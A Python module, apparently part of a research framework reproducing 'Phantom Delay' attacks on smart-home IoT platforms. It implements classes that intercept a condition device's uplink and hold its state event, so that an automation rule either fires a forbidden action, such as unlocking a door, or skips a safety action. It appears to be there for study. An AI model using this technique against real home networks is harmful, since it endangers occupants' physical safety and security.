"""Type-III: Erroneous Execution Attacks (Section V-C).

Both subtypes work by holding the event that would flip a rule's condition,
making the server's shadow state disagree with the physical world when the
trigger arrives:

* **Spurious Execution** — hold the event that would have turned the
  condition *false* (e.g. ``presence.away``); the trigger then fires the
  action that should not have been issued (the storm-door unlock, Case 8).
* **Disabled Execution** — hold the event that would have turned the
  condition *true* (e.g. ``lock.unlocked``); the trigger then finds the
  condition unmet and the safety action never runs (Case 10).

Formally (paper's notation): the attacker forces ``S(E_c) > S(E_t)`` even
though ``I(E_c) < I(E_t)``.
"""

from __future__ import annotations

from ...devices.base import IoTDevice
from ..attacker import PhantomDelayAttacker
from ..predictor import TimeoutBehavior
from ..primitives import DelayOperation, EDelay


class ConditionEventDelay:
    """Hold a condition device's next state event past the trigger."""

    subtype = "erroneous-execution"

    def __init__(
        self,
        attacker: PhantomDelayAttacker,
        condition_device: IoTDevice,
        behavior: TimeoutBehavior | None = None,
        peer_ip: str | None = None,
    ) -> None:
        self.attacker = attacker
        self.condition_device = condition_device
        self.behavior = behavior or TimeoutBehavior.from_profile(condition_device.profile)
        self.uplink_ip = condition_device.uplink_ip
        attacker.interpose(self.uplink_ip, peer_ip=peer_ip)
        self._primitive: EDelay = attacker.e_delay(self.uplink_ip, self.behavior)
        self.operation: DelayOperation | None = None

    def arm(self, duration: float | None = None) -> DelayOperation:
        """Arm on the condition device's event fingerprint.

        ``duration=None`` holds for the maximum safe window — the attacker
        needs the hold to outlive the trigger event, and the Section VI-D3
        demonstrations show the profiled windows (40 s for the presence
        sensor, 16 s+ for SmartThings devices) cover realistic trigger gaps.
        """
        self.operation = self._primitive.arm(
            duration=duration,
            trigger_size=self.condition_device.profile.event_size,
            label=f"type-III:{self.condition_device.device_id}",
        )
        return self.operation

    def release(self) -> None:
        if self.operation is not None:
            self._primitive.release(self.operation)


class SpuriousExecution(ConditionEventDelay):
    """Delay the condition-falsifying event so a forbidden action fires."""

    subtype = "spurious-execution"


class DisabledExecution(ConditionEventDelay):
    """Delay the condition-enabling event so a required action never fires."""

    subtype = "disabled-execution"
